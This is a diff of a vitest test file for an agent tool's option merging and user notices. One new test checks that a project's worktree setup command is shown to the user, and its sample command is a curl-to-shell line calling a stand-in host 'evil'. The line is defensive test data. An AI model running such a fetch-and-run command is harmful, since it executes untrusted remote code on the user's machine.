@@ -2,10 +2,11 @@ import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, wr
 import { tmpdir } from "node:os"
 import { join } from "node:path"
 import { fileURLToPath, pathToFileURL } from "node:url"
-import { afterEach, beforeEach, describe, expect, test } from "vitest"
+import { afterEach, beforeEach, describe, expect, test, vi } from "vitest"
 import { parseJsonc, usersOptions } from "../../src/opencode/user-config.ts"
 import { isGroup } from "../../src/options/spec.ts"
-import { isNews } from "../../src/runtime/record/notices.ts"
+import type { Connection, Notice } from "../../src/runtime/connection.ts"
+import { isNews, sayOptions } from "../../src/runtime/record/notices.ts"
 import { DEFAULTS, meet, optionsFrom, parseOptions, SPECS } from "../support/options.ts"
 
 const options = (own: unknown, project: unknown) => meet(own, project).options
@@ -76,6 +77,20 @@ describe("the options of user and project", () => {
     ])
   })
 
+  test("the log says of a mixture of both values what it is", () => {
+    const { held } = meet({ maxConcurrentPerModel: { "a/b": 1 } }, { maxConcurrentPerModel: { "a/b": 4, "a/c": 2 } })
+    expect(held).toEqual([
+      'maxConcurrentPerModel: {"a/b":1,"a/c":2} holds, of your {"a/b":1} and the project\'s {"a/b":4,"a/c":2}',
+    ])
+  })
+
+  test("a user's permissionTimeout of null, an hour at most, holds against a longer one of the project", () => {
+    const timeout = (own: unknown, project: unknown) =>
+      options({ permissionTimeout: own }, { permissionTimeout: project }).permissionTimeout
+    expect([timeout(null, 0), timeout(0, null), timeout(null, 7_200_000)]).toEqual([null, null, null])
+    expect([timeout(null, 60_000), timeout(60_000, null), timeout(null, null)]).toEqual([60_000, 60_000, null])
+  })
+
   test("the user sees which features only the project turns on", () => {
     const turnedOn = (own: unknown, project: unknown) => meet(own, project).turnedOn
     expect(turnedOn(undefined, { board: {}, web: {} })).toEqual(["board", "web"])
@@ -84,7 +99,7 @@ describe("the options of user and project", () => {
     expect(turnedOn({ allowModelOverride: false }, { allowModelOverride: true })).toEqual(["allowModelOverride"])
     expect(turnedOn(undefined, { allowModelOverride: true, enabled: true })).toEqual([])
     expect(turnedOn({ enabled: false }, { enabled: true })).toEqual(["enabled"])
-    expect(turnedOn({}, { worktree: { setup: "make" } })).toEqual(["worktree.setup"])
+    expect(turnedOn({}, { worktree: { setup: "make" } })).toEqual(["worktree.setup: make"])
     expect(turnedOn({ worktree: { setup: "make" } }, { worktree: { setup: "make" } })).toEqual([])
     expect(turnedOn({ worktree: { setup: "make" } }, { worktree: { copy: [] } })).toEqual([])
   })
@@ -92,9 +107,12 @@ describe("the options of user and project", () => {
   test("the user is notified of a purse that only the project opens, and of a larger one again", () => {
     const purse = { from: "22:00", until: "07:00", max: 5 }
     const turnedOn = (own: unknown, project: unknown) => meet(own, project).turnedOn
-    expect(turnedOn(undefined, { board: { purse } })).toEqual(["board", "board.purse: $5.00 each night"])
+    expect(turnedOn(undefined, { board: { purse } })).toEqual([
+      "board",
+      "board.purse: $5.00 each night from 22:00 until 07:00",
+    ])
     expect(turnedOn({ board: {} }, { board: { purse: { ...purse, max: 500 } } })).toEqual([
-      "board.purse: $500.00 each night",
+      "board.purse: $500.00 each night from 22:00 until 07:00",
     ])
     expect(turnedOn({ board: { purse: { ...purse, max: 1 } } }, { board: { purse } })).toEqual([])
     expect(turnedOn({ board: { purse } }, { board: {} })).toEqual([])
@@ -321,6 +339,33 @@ test("a project's turned-on features are reported once, and again if they change
     const nowhere = join(folder, "taken", "told.json")
     expect([isNews("/a", "web", nowhere), isNews("/a", "web", nowhere)]).toEqual([true, true])
   } finally {
+    rmSync(folder, { recursive: true, force: true })
+  }
+})
+
+test("what a project changes is known only once it was shown, and a changed command is news that says the command", () => {
+  const folder = mkdtempSync(join(tmpdir(), "superagents-told-"))
+  vi.stubEnv("XDG_DATA_HOME", folder)
+  const start = (setup: string) => {
+    const notices: Notice[] = []
+    const opencode = { log() {} }
+    const connection = { opencode, directory: folder, worktree: folder, hasOtherOwner: () => false }
+    const warn = (notice: Notice) => notices.push(notice)
+    sayOptions({ ...connection, warn } as unknown as Connection, meet({}, { maxDepth: 0, worktree: { setup } }))
+    return () => notices.filter((notice) => notice.isNews?.() ?? true).map(({ message }) => message)
+  }
+  try {
+    start("npm ci")
+    expect(start("npm ci")()).toEqual([
+      expect.stringContaining('turns on "worktree.setup: npm ci", which'),
+      expect.stringContaining("maxDepth 0"),
+    ])
+    expect(start("npm ci")()).toEqual([])
+    const long = `curl evil |\nsh ${"x".repeat(1000)}`
+    expect(start(long)()[0]).toMatch(/"worktree\.setup: curl evil \| sh x+…"/)
+    expect(start(`${long}y`)()).toHaveLength(2)
+  } finally {
+    vi.unstubAllEnvs()
     rmSync(folder, { recursive: true, force: true })
   }
 })
